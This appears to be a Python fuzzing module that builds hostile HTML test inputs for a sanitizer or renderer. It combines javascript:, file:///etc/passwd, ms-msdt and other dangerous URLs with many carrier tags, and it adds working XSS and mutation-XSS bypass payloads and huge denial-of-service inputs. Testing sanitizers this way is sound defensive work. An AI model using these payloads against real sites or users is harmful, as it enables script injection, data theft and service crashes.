"""Hostile HTML by composition: payloads in places, wrapped in ways to slip through.

All of it is written here; nothing is a copy of a published list.
"""

from __future__ import annotations

import itertools

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zy8+",
    "file:///etc/passwd",
    "FILE:C:\\secret.txt",
    "//host/share/x.png",
    "\\\\host\\share\\x.png",
    "/etc/passwd",
    "x.png",
    ":/resource/icon.png",
    "qrc:/icons/x.svg",
    "smb://host/share",
    "ms-msdt:/id PCWDiagnostic",
    "search-ms:query=x&crumb=location:host",
    "htt\tp://host/x.png",
    "http:\\\\host\\x",
    "http:/\\host/x",
    "https:host",
    "http://",
    "ftp://host/x",
    "blob:https://host/1",
    "cid:",
    "about:blank",
    "mailto\u200b:a@b.example",
    "https://host/\u202egnp.exe",
    'https://host/"onmouseover="alert(1)',
    "https://host/<script>",
)
CARRIERS = (
    '<a href="{}">x</a>',
    '<img src="{}">',
    "<img src='{}' onerror=alert(1)>",
    '<img srcset="{} 2x" src="{}">',
    '<table background="{}"><tr><td background="{}">x</td></tr></table>',
    '<body background="{}">x</body>',
    '<p style="background:url({})">x</p>',
    "<style>@import '{}'; p {{ background-image: url('{}') }}</style><p>x</p>",
    '<link rel="stylesheet" type="text/css" href="{}">x',
    '<iframe src="{}">x</iframe>',
    '<object data="{}"><embed src="{}"></object>',
    '<svg><image href="{}"/><a xlink:href="{}"><text>x</text></a></svg>',
    '<video poster="{}"><source src="{}"></video>',
    '<form action="{}"><input type=image src="{}"><button formaction="{}">x</button></form>',
    '<meta http-equiv="refresh" content="0;url={}">x',
    '<base href="{}"><a href="x">x</a>',
    '<math><maction actiontype="statusline" xlink:href="{}">x</maction></math>',
)
WHOLES = (
    "<script>alert(1)</script>x",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT/x src=//host/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)//",
    "<b onmouseover=alert(1) style='position:fixed' id=x class=y>x</b>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=/x onerror=alert(1)></title>x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>x",
    "<template><img src=/x></template>x",
    "<plaintext><img src=/x>",
    "<xmp><img src=/x></xmp>",
    "<p title='a\"><img src=/x>'>x</p>",
    "<a href='https://host/' target=_blank ping=https://spy/ download>x</a>",
    "<img>",
    "<img alt='only words'>",
    "<img src=''>",
    "<img src='cid:ok' width=99999 height=-1>",
    "<td colspan=1000000 rowspan=1000000>x</td>",
    "<table><td colspan=1000000 rowspan=60000>x</table>",
    "<ol start=99999999999999999999><li>x</ol>",
    "<div dir=evil align='x;y'>x</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)><select><option>x</select>",
    "<audio src=x onerror=alert(1)></audio>x",
    "<x-custom onclick=alert(1)>x</x-custom>",
    "<p>\x00\x01\x08<b>\ud800</b>\ufffe</p>",
    "<\u0130mg src=x>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;",
    "<a href=https://host/>one</b></i></a></a></p><p>two",
    "",
    "<",
    "<!",
    "</",
    "<a",
    "<a href",
    '<a href="',
    "&#x0;&#xFFFFFFFF;&#xD800;&unknown;",
)


def bodies() -> list[str]:
    """Every address in every carrier, bare and wrapped, and the wholes: about 1,900 bodies."""
    made = [
        carrier.replace("{}", address).replace("{{", "{").replace("}}", "}")
        for carrier, address in itertools.product(CARRIERS, ADDRESSES)
    ]
    wrapped = [
        wrapper.format(body)
        for wrapper in ("<div><b>{}</div>", "<table><tr>{}<td>y</table>", "<select>{}</select>")
        for body in made[:: len(CARRIERS) // 4]
    ]
    return [*made, *wrapped, *WHOLES]


EXTREMES = {
    "nested tables": "<table><tr><td>" * 9 + "x",
    "many nested tables": "<table><tr><td>" * 3_000 + "x",
    "nested div": "<div>" * 10_000 + "x",
    "more nested div": "<div>" * 150_000 + "x",
    "nested b": "<b>" * 20_000 + "x",
    "nested quotes": "<blockquote>" * 101 + "x",
    "nested lists": "<ul><li>" * 60 + "x",
    "unbroken word": "x" * 500_000,
    "unbroken over tags": "<b>xxxxxxxxx</b>" * 40_000,
    "images": '<img src="cid:a">' * 10_000,
    "paragraphs": "<p>x" * 60_000,
    "ampersands": "&" * 1_000_000,
    "named ampersands": "&a" * 300_000,
    "angles": "<" * 400_000,
    "open tags": "<b " * 300_000,
    "open comments": "<!-- " * 150_000,
    "open scripts": "<script>" * 100_000,
    "one attribute many times": "<p " + "a=1 " * 200_000 + ">x",
    "attributes": "<p " + " ".join(f"a{n}=1" for n in range(40_000)) + ">x",
    "reopened formatting": "<p>"
    + "".join(f"<font a={n}>" for n in range(1_000))
    + "</p><p>x" * 3_000,
    "reopened and hidden": "<p>"
    + "".join(f"<b a='<{n}'>" for n in range(1_000))
    + "</p><p>x" * 3_000,
    "misnested": "<b><i><u><p></b></i></u>" * 4_000,
    "closing without opening": "<q>" * 9_000 + "</p>" * 9_000,
    "wide table": "<table><tr>" + "<td>x" * 9_000 + "<tr><td>x" * 9_000,
    "spanning table": "<table>" + "<tr>" + "<td rowspan=50 colspan=50>x" * 2_000,
    "rows": "<table>" + "<tr><td>x" * 9_000,
    "embedded image": '<img src="data:image/png;base64,' + "A" * 5_000_000 + '">text',
    "words of 999": ("x" * 999 + " ") * 190,
    "entities of 190": ("&amp;" * 190 + " ") * 150,
    "newlines": "\n" * 900_000,
    "breaks": "<br>" * 19_000,
    "preformatted": "<pre>" + "x\n" * 90_000,
}
